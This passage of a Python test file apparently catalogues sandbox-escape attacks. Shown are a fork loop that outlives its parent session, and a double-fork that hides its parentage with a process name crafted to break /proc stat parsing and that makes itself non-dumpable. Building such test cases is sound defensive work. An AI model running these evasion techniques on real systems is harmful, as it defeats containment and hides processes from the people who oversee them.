import os, sys, time
sys.stdin.read()
until = time.monotonic() + 15
while time.monotonic() < until:
    try:
        if os.fork():
            os._exit(0)
    except OSError:
        time.sleep(0.001)
'''
command = [sys.executable, "-I", "-S", "-c", LINKS]
waiting = subprocess.Popen(command, stdin=subprocess.PIPE, start_new_session=True)  # for the end of this process
"""
        ),
    ),
    Attack(
        name="a-name-like-a-line",
        tries="goes on as a process whose name reads like the end of a line in /proc, so that nobody finds its parent",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import ctypes
import os
import time

PR_SET_DUMPABLE, PR_SET_NAME = 4, 15

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        libc = ctypes.CDLL(None)
        libc.prctl(PR_SET_NAME, b"x) S 0 0 0\\n(", 0, 0, 0)
        libc.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
        time.sleep(30)
    os._exit(0)
"""
        ),
    ),
]

ATTACKS = [*NAMESPACES, *MOUNTS, *PROCESSES, *KERNEL, *PRIVILEGES, *FILES, *AFTERWARDS]
